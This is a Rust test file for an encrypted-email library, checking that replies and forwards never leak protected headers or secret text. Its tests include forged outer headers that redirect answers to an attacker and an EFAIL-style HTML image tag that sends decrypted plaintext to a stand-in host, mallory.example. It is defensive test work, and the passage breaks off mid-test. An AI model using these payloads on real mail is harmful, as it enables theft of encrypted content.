//! Answers: to whom they go, what they quote, and what they go on hiding. RFC 9788 6, RFC 9787 5.4.

use serde_json::{Value, json};

use crate::harness::{Host, encode, seal_one, shorten};
use crate::protection::{Crypto, OUTER, by_hand, posts};
use crate::smime::body_of;
use crate::trio::{ALICE, BOB, MALLORY, Trio, readable, trios};

const SECRET: &str = "xyzzy-plover";
const SUBJECT: &str = "Plugh at noon";

fn protect(trio: &Trio, sign: bool) -> Value {
    json!({"sign": sign, "encrypt": true, "protocol": trio.family})
}

/// A letter of Alice's to Bob with something in it that nobody else may read.
fn letter() -> Value {
    json!({
        "from": {"name": "Alice", "address": ALICE}, "to": [BOB, "carol@sealpost.example"],
        "cc": ["dave@sealpost.example"], "subject": SUBJECT, "messageId": "first@sealpost.example",
        "references": ["zero@sealpost.example"],
        "text": {"text": format!("Bob,\n\nthe word is {SECRET}.\n\n> quoted\n")},
        "attachments": [{"name": "map.txt", "type": "text/plain", "body": {"text": format!("{SECRET} map")}}],
    })
}

/// The same to Bob alone: the others have no keys.
fn letter_to_bob() -> Value {
    let mut letter = letter();
    letter["to"] = json!([BOB]);
    letter["cc"] = json!([]);
    letter
}

fn answered(host: &mut Host, message: Value, kind: &str) -> Value {
    host.good("message/answer", json!({"message": message, "kind": kind}))
}

fn addresses(list: &Value) -> Vec<&str> {
    let all = list.as_array().unwrap().iter();
    all.map(|one| one["address"].as_str().unwrap()).collect()
}

/// The header section of a message, unfolded and decoded as any reader would.
fn outside(message: &[u8]) -> String {
    let text = String::from_utf8_lossy(message);
    text.split_once("\r\n\r\n").unwrap().0.replace("\r\n ", " ")
}

#[test]
fn an_answer_begins_with_what_was_protected() {
    for mut trio in trios() {
        let how = protect(&trio, true);
        let message = seal_one(&mut trio.alice, letter_to_bob(), how);
        let opened = trio.bob.open(&message).unwrap();
        let token = json!({"answer": opened["answer"]});
        let whole = trio.bob.body(&message);
        for given in [token.clone(), whole.clone()] {
            let reply = answered(&mut trio.bob, given, "reply");
            let draft = &reply["draft"];
            assert_eq!(draft["from"]["address"], BOB, "{}", shorten(&reply));
            assert_eq!(addresses(&draft["to"]), [ALICE]);
            assert_eq!(draft["to"][0]["name"], "Alice");
            assert_eq!(draft["subject"], format!("Re: {SUBJECT}"));
            assert_eq!(draft["inReplyTo"], json!(["first@sealpost.example"]));
            assert_eq!(
                draft["references"],
                json!(["zero@sealpost.example", "first@sealpost.example"])
            );
            assert_eq!(reply["encrypted"], "whole");
            assert_eq!(reply["quote"], "given");
            let text = draft["text"]["text"].as_str().unwrap();
            assert!(
                text.contains(", Alice <alice@sealpost.example> wrote:\n> Bob,\n>\n"),
                "{text}"
            );
            assert!(
                text.ends_with(&format!("> the word is {SECRET}.\n>\n>> quoted\n")),
                "{text}"
            );
            assert_eq!(draft["attachments"], json!([]));
        }
        let forward = answered(&mut trio.bob, whole, "forward");
        let draft = &forward["draft"];
        assert_eq!(
            (&draft["to"], &draft["inReplyTo"]),
            (&json!([]), &json!([]))
        );
        assert_eq!(draft["subject"], format!("Fwd: {SUBJECT}"));
        let text = draft["text"]["text"].as_str().unwrap();
        assert!(
            text.contains(&format!("Subject: {SUBJECT}\n")) && text.contains(SECRET),
            "{text}"
        );
        assert_eq!(draft["attachments"][0]["name"], "map.txt");
        assert!(readable(&draft["attachments"]).contains("plover map"));
        // What is attached is not in a token.
        let fault = trio.bob.fault(
            "message/answer",
            json!({"message": token, "kind": "forward"}),
        );
        assert_eq!(
            (fault.kind(), &fault.data["path"]),
            ("request.invalid", &json!("/message"))
        );
    }
}

#[test]
fn an_answer_to_all_leaves_us_out() {
    for mut trio in trios() {
        // Signed only: it may go to people without keys.
        let how = json!({"sign": true, "protocol": trio.family});
        let message = seal_one(&mut trio.alice, letter(), how);
        let whole = trio.bob.body(&message);
        let all = answered(&mut trio.bob, whole.clone(), "reply-all");
        assert_eq!(addresses(&all["draft"]["to"]), [ALICE]);
        assert_eq!(
            addresses(&all["draft"]["cc"]),
            ["carol@sealpost.example", "dave@sealpost.example"]
        );
        // She herself writes once more to those whom it went to.
        let own = trio.alice.body(&message);
        let again = answered(&mut trio.alice, own, "reply");
        assert_eq!(
            addresses(&again["draft"]["to"]),
            [BOB, "carol@sealpost.example"]
        );
        assert_eq!(again["draft"]["from"]["address"], ALICE);
    }
}

/// RFC 9788 10.1, facts T4 and T6: what stands outside decides neither who is answered nor how.
#[test]
fn what_stands_outside_decides_nothing() {
    for mut trio in trios() {
        for (sign, quote) in [(true, "given"), (false, "withheld")] {
            let how = protect(&trio, sign);
            let message = seal_one(&mut trio.alice, letter_to_bob(), how);
            let text = String::from_utf8(message).unwrap();
            let forged = text
                .replacen("From: Alice <alice@", "From: Alice <mallory@", 1)
                .replacen(
                    "Subject: [...]\r\n",
                    "Subject: Other\r\nReply-To: mallory@sealpost.example\r\n\
                     Cc: mallory@sealpost.example\r\nMail-Followup-To: mallory@sealpost.example\r\n\
                     List-Post: <mailto:mallory@sealpost.example>\r\n",
                    1,
                );
            assert_ne!(forged, text);
            let opened = trio.bob.open(forged.as_bytes()).unwrap();
            assert_eq!(
                opened["headers"]["from"]["addresses"][0]["address"],
                if sign { ALICE } else { MALLORY }
            );
            let whole = trio.bob.body(forged.as_bytes());
            for kind in ["reply", "reply-all"] {
                let reply = answered(&mut trio.bob, whole.clone(), kind);
                assert_eq!(addresses(&reply["draft"]["to"]), [ALICE], "{kind}");
                assert_eq!(reply["draft"]["cc"], json!([]));
                assert_eq!(reply["draft"]["subject"], format!("Re: {SUBJECT}"));
                assert_eq!(reply["quote"], quote, "{kind}");
                assert_eq!(readable(&reply["draft"]).contains(SECRET), sign);
            }
            let params = json!({"message": whole, "kind": "reply", "quote": "anyway"});
            let reply = trio.bob.good("message/answer", params);
            assert!(readable(&reply["draft"]).contains(SECRET));
        }
    }
}

/// Most mail of today protects no header field: whoever passes it on can say whom an answer goes
/// to, and gets no plaintext for it.
#[test]
fn nobody_on_the_way_is_quoted_to() {
    let payload = format!("Content-Type: text/plain\n\nThe word is {SECRET}.\n");
    for mut post in posts() {
        for (more, kind, quote) in [
            ("", "reply", "given"),
            ("", "reply-all", "given"),
            (
                "Reply-To: Alice <alice@sealpost.example>\n",
                "reply",
                "given",
            ),
            ("Reply-To: mallory@x.example\n", "reply", "withheld"),
            ("Cc: mallory@x.example\n", "reply-all", "withheld"),
            ("To: mallory@x.example\n", "reply-all", "withheld"),
            ("Cc: mallory@x.example\n", "reply", "given"),
        ] {
            let outer = format!("{OUTER}{more}");
            let opened = by_hand(&mut post, Crypto::SignedEncrypted, &outer, &payload);
            assert_eq!(opened["summary"]["signed"], "good", "{}", shorten(&opened));
            let token = json!({"answer": opened["answer"]});
            let reply = answered(&mut post.bob, token.clone(), kind);
            assert_eq!(reply["quote"], quote, "{more}{kind}");
            let given = readable(&reply["draft"]).contains(SECRET);
            assert_eq!(given, quote == "given", "{more}{kind}");
            let anyway = json!({"message": token, "kind": kind, "quote": "anyway"});
            let reply = post.bob.good("message/answer", anyway);
            assert!(readable(&reply["draft"]).contains(SECRET));
        }
        // Where nothing was secret, nothing is lost.
        let outer = format!("{OUTER}Reply-To: list@x.example\n");
        let opened = by_hand(&mut post, Crypto::Multipart, &outer, &payload);
        let reply = answered(&mut post.bob, json!({"answer": opened["answer"]}), "reply");
        assert_eq!(reply["quote"], "given");
    }
}

/// The scheme before RFC 9788 let a payload have a subject and nothing else (Mutt still does):
/// then there is the outside alone to say whom an answer goes to.
#[test]
fn a_payload_that_has_a_subject_alone_is_answered() {
    let payload = format!(
        "Content-Type: text/plain; protected-headers=\"v1\"\nSubject: Inside\n\nThe word is {SECRET}.\n"
    );
    for mut post in posts() {
        let outer = format!("{OUTER}Cc: carol@x.example\n");
        let opened = by_hand(&mut post, Crypto::SignedEncrypted, &outer, &payload);
        let token = json!({"answer": opened["answer"]});
        // Whoever is named by the outside alone hears no more than that says.
        for (kind, cc, quote, subject) in [
            ("reply", vec![], "given", "Re: Inside"),
            (
                "reply-all",
                vec!["carol@x.example"],
                "withheld",
                "Re: [...]",
            ),
        ] {
            let reply = answered(&mut post.bob, token.clone(), kind);
            let draft = &reply["draft"];
            assert_eq!(addresses(&draft["to"]), [ALICE], "{}", shorten(&reply));
            assert_eq!(addresses(&draft["cc"]), cc);
            assert_eq!(draft["from"]["address"], BOB);
            assert_eq!(draft["subject"], subject);
            assert_eq!(draft["inReplyTo"], json!(["o@x"]));
            assert_eq!(reply["quote"], quote);
        }
    }
}

/// What was hidden stays so in whatever field and company the person puts it.
#[test]
fn what_was_hidden_may_be_moved() {
    for mut trio in trios() {
        let how = json!({"sign": true, "encrypt": true, "protocol": trio.family, "headers": "shy"});
        let mut letter = letter();
        letter["from"]["name"] = json!("Alice Confidential");
        letter["to"] = json!([{"name": "Bob Hidden", "address": BOB}]);
        letter["cc"] = json!([{"name": "Mallory Secret", "address": MALLORY}]);
        let message = seal_one(&mut trio.alice, letter, how);
        let opened = trio.bob.open(&message).unwrap();
        let token = json!({"answer": opened["answer"]});
        let draft = answered(&mut trio.bob, token.clone(), "reply-all")["draft"].clone();
        let (to, cc) = (draft["to"].clone(), draft["cc"].clone());
        let own = json!({"name": "Robert", "address": BOB});
        let list = |lists: &[&Value]| {
            let all = lists.iter().flat_map(|list| list.as_array().unwrap());
            json!(all.collect::<Vec<_>>())
        };
        for (to, cc) in [
            (to.clone(), cc.clone()),
            (list(&[&to, &cc]), json!([])),
            (cc.clone(), to.clone()),
            (to.clone(), list(&[&cc, &json!([own])])),
        ] {
            let mut draft = draft.clone();
            draft["to"] = to;
            draft["cc"] = cc;
            let params = json!({"draft": draft, "answering": token, "protect":
                {"encrypt": true, "sign": true, "protocol": trio.family, "headers": "none"}});
            let sealed = trio.bob.good("message/seal", params);
            let bytes = trio.bob.bytes(&sealed["messages"][0]["message"].clone());
            let head = outside(&bytes);
            for name in ["Confidential", "Hidden", "Secret"] {
                assert!(!head.contains(name), "{head}");
            }
            assert!(head.contains(ALICE) && head.contains(MALLORY), "{head}");
            let read = trio.alice.open(&bytes).unwrap();
            assert!(readable(&read["headers"]).contains("Mallory Secret"));
        }
    }
}

/// And in whatever spelling, in all fields that can go without it.
#[test]
fn what_was_hidden_stands_nowhere_outside() {
    for mut trio in trios() {
        let how = json!({"sign": true, "encrypt": true, "protocol": trio.family, "headers": "shy"});
        let mut letter = letter();
        letter["subject"] = json!("AW: [team] Projekt Merger");
        letter["from"]["name"] = json!("Alice Confidential");
        letter["to"] = json!([{"name": "Bob Hidden", "address": BOB}]);
        letter["cc"] = json!([{"name": "Mallory Secret", "address": MALLORY}]);
        let message = seal_one(&mut trio.alice, letter, how);
        let opened = trio.bob.open(&message).unwrap();
        let token = json!({"answer": opened["answer"]});
        let draft = answered(&mut trio.bob, token.clone(), "reply")["draft"].clone();
        let mut tries = Vec::new();
        let mut put = |name: &str, value: Value| {
            let mut draft = draft.clone();
            draft[name] = value;
            tries.push(draft);
        };
        let hidden_name = json!([{"name": "Mallory  SECRET (boss)", "address": ALICE}]);
        for list in ["to", "cc", "replyTo"] {
            put(list, hidden_name.clone());
        }
        put("from", json!({"name": "Mallory Secret", "address": BOB}));
        for subject in [
            "Re: projekt MERGER",
            "Projekt Merger!",
            "Re: Projekt  Merger",
            "Re: Projekt\tMerger",
            "Re: Projekt\u{a0}Merger",
            "Re: Projekt\u{200b}Merger",
            "Re: Proj\u{ad}ekt M\u{2060}erger",
            "Re: Projekt-Merger",
            "Re: Projekt_Merger",
            "Re: ProjektMerger",
            "Re: Pr\u{43e}jekt Merger",
            "Re: \u{ff30}rojekt Merger",
            "Re[Merger]: Projekt Merger",
            "WG: Projekt Merger (was: something)",
            "a talk with Mallory Secret",
            "mallory\u{2011}secret",
            "by Alice Confidential",
        ] {
            put("subject", json!(subject));
        }
        for name in [
            "Thread-Topic",
            "Keywords",
            "Comments",
            "Mail-Followup-To",
            "Mail-Reply-To",
            "Disposition-Notification-To",
            "Return-Receipt-To",
            "Errors-To",
            "Organization",
            "X-Original-Subject",
        ] {
            for value in [
                "Projekt Merger",
                "re: projekt\u{a0}merger",
                "Mallory Secret <mallory@sealpost.example>",
                "\"Secret Mallory\" <mallory@sealpost.example>",
                "frank@x.example (Mallory Secret)",
            ] {
                put("headers", json!([{"name": name, "value": value}]));
            }
        }
        for draft in tries {
            let params = json!({"draft": draft, "answering": token, "protect":
                {"encrypt": true, "sign": true, "protocol": trio.family, "headers": "none"}});
            let sealed = trio.bob.good("message/seal", params);
            let bytes = trio.bob.bytes(&sealed["messages"][0]["message"].clone());
            let head = outside(&bytes);
            let (fields, _) = head.split_once("MIME-Version").unwrap();
            // Whatever is encoded would be found decoded.
            let seen = trio.alice.open(fields.as_bytes()).unwrap()["headers"].clone();
            let seen = readable(&seen).to_lowercase();
            for word in [
                "secret",
                "confidential",
                "hidden",
                "merger",
                "m\u{2060}erger",
            ] {
                assert!(!seen.contains(word), "{draft}\n{head}\n{seen}");
            }
            assert!(head.contains(BOB), "{head}");
            let read = trio.alice.open(&bytes).unwrap();
            assert_eq!(read["headers"]["subject"]["value"], draft["subject"]);
            for extra in draft["headers"].as_array().unwrap() {
                let inside = read["headers"].to_string();
                let value = extra["value"].as_str().unwrap();
                let value = value
                    .split([' ', '\u{a0}', '"'])
                    .max_by_key(|word| word.len());
                assert!(inside.contains(value.unwrap()), "{extra}: {inside}");
            }
        }
        // What was not hidden stands where it was put.
        let mut open = draft.clone();
        open["subject"] = json!("Something else");
        open["from"] = json!({"name": "Robert", "address": BOB});
        open["headers"] = json!([{"name": "Organization", "value": "Acme"},
            {"name": "Disposition-Notification-To", "value": BOB}]);
        let params = json!({"draft": open, "answering": token, "protect":
            {"encrypt": true, "sign": true, "protocol": trio.family, "headers": "none"}});
        let sealed = trio.bob.good("message/seal", params);
        let bytes = trio.bob.bytes(&sealed["messages"][0]["message"].clone());
        let head = outside(&bytes);
        for line in [
            "Subject: Something else",
            "Organization: Acme",
            "Disposition-Notification-To: bob@sealpost.example",
        ] {
            assert!(head.contains(&format!("{line}\r\n")), "{head}");
        }
    }
}

/// What was hidden stays so under a policy of our own that hides another piece of the same field.
#[test]
fn a_hidden_address_is_hidden_under_every_policy() {
    let payload = format!(
        "From: Alice <{ALICE}>\nTo: {BOB}\nCc: Carol <carol@x.example>, Dora <dora@x.example>\n\
         Subject: s\nMessage-ID: <seen@x>\nHP-Outer: From: {ALICE}\nHP-Outer: To: {BOB}\n\
         HP-Outer: Cc: dora@x.example\nHP-Outer: Message-ID: <seen@x>\n\
         Content-Type: text/plain; hp=\"cipher\"\n\ntext\n"
    );
    for mut post in posts() {
        let opened = by_hand(&mut post, Crypto::SignedEncrypted, OUTER, &payload);
        let token = json!({"answer": opened["answer"]});
        let draft = answered(&mut post.bob, token.clone(), "reply-all")["draft"].clone();
        assert_eq!(
            addresses(&draft["cc"]),
            ["carol@x.example", "dora@x.example"]
        );
        for policy in ["none", "baseline", "shy"] {
            let mut draft = draft.clone();
            draft["headers"] = json!([{"name": "X-Copies", "value": "carol@X.example"}]);
            let params = json!({"draft": draft, "answering": token, "purpose": "draft",
                "protect": {"encrypt": true, "headers": policy}});
            let sealed = post.bob.good("message/seal", params);
            let bytes = post.bob.bytes(&sealed["sent"].clone());
            let head = outside(&bytes);
            assert!(!head.to_lowercase().contains("carol"), "{policy}: {head}");
            assert!(head.contains("dora@x.example"), "{policy}: {head}");
        }
    }
}

/// The same of message ids, which a composer of ours never hides.
#[test]
fn a_hidden_message_id_is_hidden_among_others() {
    let payload = format!(
        "From: Alice <{ALICE}>\nTo: {BOB}\nSubject: s\nMessage-ID: <hidden@x>\nReferences: <zero@x>\n\
         HP-Outer: From: Alice <{ALICE}>\nHP-Outer: To: {BOB}\nHP-Outer: References: <zero@x>\n\
         HP-Outer: Message-ID: <seen@x>\nContent-Type: text/plain; hp=\"cipher\"\n\ntext\n"
    );
    for mut post in posts() {
        let opened = by_hand(&mut post, Crypto::SignedEncrypted, OUTER, &payload);
        let token = json!({"answer": opened["answer"]});
        let draft = answered(&mut post.bob, token.clone(), "reply")["draft"].clone();
        assert_eq!(draft["inReplyTo"], json!(["hidden@x"]), "{draft}");
        for references in [
            json!(["zero@x", "hidden@x"]),
            json!(["hidden@x"]),
            json!(["other@x", "hidden@x", "zero@x"]),
        ] {
            let mut draft = draft.clone();
            draft["references"] = references;
            let params = json!({"draft": draft, "answering": token, "form": "messages",
                "protect": {"encrypt": true, "headers": "none"}});
            let sealed = post.bob.good("message/seal", params);
            let bytes = post.bob.bytes(&sealed["messages"][0]["message"].clone());
            assert!(!outside(&bytes).contains("hidden@x"), "{}", outside(&bytes));
        }
    }
}

/// A message that comes whole has ids and a date of its own, and says in them what it likes.
#[test]
fn a_whole_message_says_nothing_hidden_in_its_ids_and_date() {
    for mut trio in trios() {
        let mut letter = letter_to_bob();
        letter["subject"] = json!("Projekt Merger");
        let how = json!({"sign": true, "encrypt": true, "protocol": trio.family});
        let message = seal_one(&mut trio.alice, letter, how);
        let token = json!({"answer": trio.bob.open(&message).unwrap()["answer"]});
        let date = "Sat, 20 Feb 2021 10:09:02 -0500";
        for (field, stays) in [
            ("Message-ID: <projekt-merger@x.example>", false),
            ("Message-ID: <one@x.example> (Projekt Merger)", true),
            (
                "References: <one@x.example> (projekt merger) <two@x.example>",
                true,
            ),
            ("In-Reply-To: Projekt Merger <one@x.example>", true),
            (
                "Date: Sat, 20 Feb 2021 10:09:02 -0500 (Projekt Merger)",
                true,
            ),
        ] {
            let other = match field.starts_with("Date") {
                true => String::new(),
                false => format!("Date: {date}\r\n"),
            };
            let whole = format!(
                "From: {BOB}\r\nTo: {ALICE}\r\nSubject: Hello\r\n{other}{field}\r\n\r\nText\r\n"
            );
            let body = trio.bob.body(whole.as_bytes());
            let params = json!({"message": body, "answering": token, "protect":
                {"encrypt": true, "sign": true, "protocol": trio.family, "headers": "none"}});
            let sealed = trio.bob.good("message/seal", params);
            let bytes = trio.bob.bytes(&sealed["messages"][0]["message"].clone());
            let head = outside(&bytes);
            assert!(!head.to_lowercase().contains("merger"), "{field}\n{head}");
            let kept = head.contains("one@x.example") || field.starts_with("Date");
            assert_eq!(kept, stays, "{field}\n{head}");
            assert!(head.contains(&format!("Date: {date}\r\n")), "{head}");
        }
    }
}

/// What an earlier envelope said of its text is not true of this one, and costs no line of it.
#[test]
fn a_whole_message_keeps_its_first_lines() {
    for mut trio in trios() {
        for kind in ["text/plain", "multipart/mixed; boundary=b"] {
            let part = "Content-Type: text/plain; charset=utf-8; HP-Legacy-Display=1\r\n\r\n\
                        First\r\n\r\nLast\r\n";
            let body = match kind {
                "text/plain" => part.to_owned(),
                kind => format!(
                    "Content-Type: {kind}\r\n\r\n--b\r\n{part}\r\n--b\r\n{part}\r\n--b--\r\n"
                ),
            };
            let whole =
                format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: s\r\nMIME-Version: 1.0\r\n{body}");
            for display in [true, false] {
                let message = trio.bob.body(whole.as_bytes());
                let params = json!({"message": message, "protect": {"encrypt": true, "sign": true,
                    "protocol": trio.family, "legacyDisplay": display}});
                let sealed = trio.bob.good("message/seal", params);
                let bytes = trio.bob.bytes(&sealed["messages"][0]["message"].clone());
                let opened = trio.alice.open(&bytes).unwrap();
                for part in opened["parts"].as_array().unwrap() {
                    let text = trio.alice.bytes(&part["body"].clone());
                    let text = String::from_utf8(text).unwrap();
                    assert!(
                        text.starts_with("First\r\n\r\nLast"),
                        "{kind} {display}: {text}"
                    );
                }
            }
        }
    }
}

/// RFC 9788 6.1, D.2.2: under every policy of our own, what was hidden stays so.
#[test]
fn an_answer_hides_what_was_hidden() {
    for mut trio in trios() {
        let how = protect(&trio, true);
        let message = seal_one(&mut trio.alice, letter_to_bob(), how);
        let opened = trio.bob.open(&message).unwrap();
        let token = json!({"answer": opened["answer"]});
        let whole = trio.bob.body(&message);
        let reply = answered(&mut trio.bob, token.clone(), "reply");
        let mut draft = reply["draft"].clone();
        for (subject, policy, outer) in [
            (None, "none", "Re: [...]"),
            (None, "baseline", "[...]"),
            (None, "shy", "[...]"),
            // The RFC's own matching is exact; these would go out in the clear.
            (
                Some("Re: plugh AT noon (was: something)"),
                "none",
                "Re: [...]",
            ),
            (Some("What I think"), "none", "What I think"),
        ] {
            if let Some(subject) = subject {
                draft["subject"] = json!(subject);
            }
            for answering in [token.clone(), whole.clone()] {
                let params = json!({"draft": draft, "answering": answering, "protect":
                    {"encrypt": true, "sign": true, "protocol": trio.family, "headers": policy}});
                let sealed = trio.bob.good("message/seal", params);
                let bytes = trio.bob.bytes(&sealed["messages"][0]["message"].clone());
                let head = outside(&bytes);
                assert!(
                    head.contains(&format!("\r\nSubject: {outer}\r\n")),
                    "{head}"
                );
                assert!(!head.to_lowercase().contains("plugh"), "{head}");
                let read = trio.alice.open(&bytes).unwrap();
                assert_eq!(read["headers"]["subject"]["value"], draft["subject"]);
                let hidden = outer != draft["subject"];
                let state = if hidden { "signed-encrypted" } else { "signed" };
                assert_eq!(read["headers"]["subject"]["protection"], state);
            }
        }
        draft["subject"] = json!(format!("Re: {SUBJECT}"));
        for protect in [json!({}), json!({"sign": true, "protocol": trio.family})] {
            let params = json!({"draft": draft, "answering": token, "protect": protect});
            let fault = trio.bob.fault("message/seal", params);
            assert_eq!(
                (fault.kind(), &fault.data["path"]),
                ("request.invalid", &json!("/protect"))
            );
        }
        draft["subject"] = json!("Something else");
        let params = json!({"draft": draft, "answering": token, "protect": {}});
        trio.bob.good("message/seal", params);
    }
}

#[test]
fn a_token_is_this_stores_alone() {
    let mut trio = Trio::openpgp();
    let how = protect(&trio, true);
    let message = seal_one(&mut trio.alice, letter_to_bob(), how);
    let token = trio.bob.open(&message).unwrap()["answer"]
        .as_str()
        .unwrap()
        .to_owned();
    // It holds nothing that anybody else can read.
    let bytes = base64_url(&token);
    for word in [SECRET, SUBJECT, ALICE] {
        assert!(!String::from_utf8_lossy(&bytes).contains(word));
    }
    // On another connection it is as good.
    let mut other = trio.bob_home.start();
    answered(&mut other, json!({"answer": token}), "reply");
    let middle = token.len() / 2;
    let swapped = if &token[middle..=middle] == "A" {
        "B"
    } else {
        "A"
    };
    let changed = format!("{}{swapped}{}", &token[..middle], &token[middle + 1..]);
    for wrong in [
        changed.as_str(),
        &token[..middle],
        "",
        "!",
        &"A".repeat(200_000),
    ] {
        for (method, path) in [
            ("message/answer", "/message/answer"),
            ("message/seal", "/answering/answer"),
        ] {
            let params = match method {
                "message/answer" => json!({"message": {"answer": wrong}, "kind": "reply"}),
                _ => {
                    json!({"draft": letter_to_bob(), "protect": {}, "answering": {"answer": wrong}})
                }
            };
            let host = if method == "message/answer" {
                &mut trio.bob
            } else {
                &mut trio.alice
            };
            let fault = host.fault(method, params);
            assert_eq!(
                (fault.kind(), &fault.data["path"]),
                ("request.invalid", &json!(path))
            );
        }
    }
    let params = json!({"message": {"answer": token}, "kind": "reply"});
    assert_eq!(
        trio.alice.fault("message/answer", params).kind(),
        "request.invalid"
    );
}

fn base64_url(text: &str) -> Vec<u8> {
    let mut text = text.replace('-', "+").replace('_', "/");
    while !text.len().is_multiple_of(4) {
        text.push('=');
    }
    crate::harness::decode(&text)
}

/// A text that is too long for a token is quoted from its message.
#[test]
fn a_long_text_needs_its_message() {
    let mut trio = Trio::openpgp();
    let mut long = letter_to_bob();
    long["text"] = json!({"text": "a line of this letter\n".repeat(2_000)});
    let how = protect(&trio, true);
    let message = seal_one(&mut trio.alice, long, how);
    let opened = trio.bob.open(&message).unwrap();
    assert!(opened["answer"].as_str().unwrap().len() < 8_000);
    let token = json!({"answer": opened["answer"]});
    let fault = trio
        .bob
        .fault("message/answer", json!({"message": token, "kind": "reply"}));
    assert_eq!(
        (fault.kind(), &fault.data["path"]),
        ("request.invalid", &json!("/message"))
    );
    let whole = trio.bob.body(&message);
    let reply = answered(&mut trio.bob, whole, "reply");
    assert_eq!(reply["quote"], "given");
}

/// What Mallory can make of a ciphertext that was meant for Bob.
fn shapes(trio: &mut Trio) -> Vec<(String, Vec<u8>)> {
    let mut entities: Vec<(&str, Vec<u8>)> = Vec::new();
    for (name, sign) in [("signed", true), ("bare", false)] {
        let how = protect(trio, sign);
        let message = seal_one(&mut trio.alice, letter_to_bob(), how);
        entities.push((name, structure(&message)));
    }
    // Without any fields inside, as most of the world writes.
    let params = json!({"payload": {"text": format!("the word is {SECRET}")}, "to": [BOB],
        "form": "payload", "protect": {"encrypt": true, "protocol": trio.family, "keys": {}}});
    let sealed = trio.alice.good("message/seal", params);
    let payload = trio.alice.bytes(&sealed["payload"].clone());
    let fieldless = match trio.family {
        "openpgp" => {
            crate::mime::encrypted(&String::from_utf8(payload.clone()).unwrap()).into_bytes()
        }
        _ => format!(
            "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            encode(&payload)
        )
        .into_bytes(),
    };
    entities.push(("fieldless", fieldless));
    let head = format!(
        "From: {MALLORY}\r\nTo: {BOB}\r\nSubject: hello\r\nMessage-ID: <m@x>\r\nMIME-Version: 1.0\r\n"
    );
    let multi = |kind: &str, parts: &[&[u8]]| {
        let mut out =
            format!("Content-Type: multipart/{kind}; boundary=\"b-{kind}\"\r\n\r\n").into_bytes();
        for part in parts {
            out.extend_from_slice(format!("--b-{kind}\r\n").as_bytes());
            out.extend_from_slice(part);
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(format!("--b-{kind}--\r\n").as_bytes());
        out
    };
    let text = b"Content-Type: text/plain\r\n\r\nWhat do you say to this?\r\n".as_slice();
    let open = b"Content-Type: text/html\r\n\r\n<img src=\"http://mallory.example/?".as_slice();
    let close = b"Content-Type: text/html\r\n\r\n\">".as_slice();
    let mut bodies: Vec<(String, Vec<u8>)> = Vec::new();
    for (name, entity) in &entities {
        let message = [
            b"Content-Type: message/rfc822\r\n\r\n".as_slice(),
            head.as_bytes(),
            entity,
        ]
        .concat();
        let file = format!(
            "Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            encode(entity)
        );
        for (shape, body) in [
            ("root", entity.clone()),
            ("mixed-first", multi("mixed", &[entity, text])),
            ("mixed-second", multi("mixed", &[text, entity])),
            ("mixed-alone", multi("mixed", &[entity])),
            ("alternative", multi("alternative", &[text, entity])),
            ("related", multi("related", &[text, entity])),
            ("sandwich", multi("mixed", &[open, entity, close])),
            ("in-message", multi("mixed", &[text, &message])),
            ("message-alone", message.clone()),
            ("file", multi("mixed", &[text, file.as_bytes()])),
        ] {
            bodies.push((format!("{name} {shape}"), body));
        }
    }
    if trio.family == "openpgp" {
        let armor = String::from_utf8(payload).unwrap();
        let quoted: String = armor.lines().map(|line| format!("> {line}\r\n")).collect();
        for (shape, body) in [
            ("inline", armor.clone()),
            (
                "inline-in-text",
                format!("What is this?\r\n\r\n{armor}\r\n\r\nBye\r\n"),
            ),
            ("inline-twice", format!("{armor}\r\n{armor}")),
            ("inline-quoted", format!("You wrote:\r\n{quoted}")),
            (
                "inline-below",
                format!("Fine.{}{armor}", "\r\n".repeat(300)),
            ),
        ] {
            bodies.push((
                shape.to_owned(),
                format!("Content-Type: text/plain\r\n\r\n{body}").into_bytes(),
            ));
        }
    }
    let mut all = Vec::new();
    for (name, body) in bodies {
        let whole = [head.as_bytes(), &body].concat();
        for (wrapped, sign, encrypt) in [
            ("signed", true, false),
            ("sealed", true, true),
            ("closed", false, true),
        ] {
            let message = trio.mallory.body(&whole);
            let params = json!({"message": message, "protect":
                {"sign": sign, "encrypt": encrypt, "protocol": trio.family}});
            let sealed = trio.mallory.good("message/seal", params);
            let bytes = trio
                .mallory
                .bytes(&sealed["messages"][0]["message"].clone());
            all.push((format!("{} {name} {wrapped}", trio.family), bytes));
        }
        all.push((format!("{} {name}", trio.family), whole));
    }
    all
}

/// The structural fields of a message and its body.
fn structure(message: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(message);
    let head = text
        .split_once("\r\n\r\n")
        .unwrap()
        .0
        .replace("\r\n ", "\u{1}");
    let kept: String = head
        .split("\r\n")
        .filter(|line| line.to_ascii_lowercase().starts_with("content-"))
        .map(|line| format!("{}\r\n", line.replace('\u{1}', "\r\n ")))
        .collect();
    [kept.as_bytes(), b"\r\n", &body_of(message)].concat()
}

/// Covert content: whatever is made of others' ciphertext, no answer that anybody but its author
/// would get says what is in it, in whatever way the answer is then sent.
#[test]
fn no_answer_says_what_somebody_else_wrote() {
    for mut trio in trios() {
        let (mut tried, mut genuine) = (0, 0);
        for (name, message) in shapes(&mut trio) {
            let opened = match trio.bob.open(&message) {
                Ok(opened) => opened,
                // Closed to Bob altogether: nothing to answer.
                Err(fault) => panic!("{name}: {fault:?}"),
            };
            // Alice's own message, as she signed it: who answers that answers her.
            let hers = opened["summary"]["signer"]["address"] == ALICE;
            let quote = readable(&opened["quote"]);
            assert!(hers || !quote.contains(SECRET), "{name}: {quote}");
            let whole = trio.bob.body(&message);
            for kind in ["reply", "reply-all", "forward"] {
                tried += 1;
                let reply = answered(&mut trio.bob, whole.clone(), kind);
                let mut draft = reply["draft"].clone();
                let text = readable(&draft);
                let to_alice = kind == "forward" || addresses(&draft["to"]) == [ALICE];
                if hers && to_alice {
                    genuine += 1;
                } else {
                    assert!(!text.contains(SECRET), "{name}, {kind}: {text}");
                }
                // The person may choose a sealed letter's text that nothing binds to its sender,
                // but nothing that was hidden inside it.
                if !name.contains(" root") && !name.starts_with("openpgp inline") {
                    let params = json!({"message": whole, "kind": kind, "quote": "anyway"});
                    let anyway = trio.bob.good("message/answer", params);
                    assert!(
                        !readable(&anyway["draft"]).contains(SECRET),
                        "{name}, {kind}"
                    );
                }
